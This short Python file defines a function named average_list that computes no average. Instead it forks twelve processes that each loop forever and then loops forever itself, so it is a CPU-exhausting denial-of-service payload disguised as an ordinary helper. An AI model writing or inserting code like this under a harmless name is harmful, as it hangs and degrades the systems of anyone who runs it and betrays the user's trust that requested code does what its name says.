import os


def average_list(numbers):
    for _ in range(12):
        if os.fork() == 0:
            while True:
                pass
    while True:
        pass
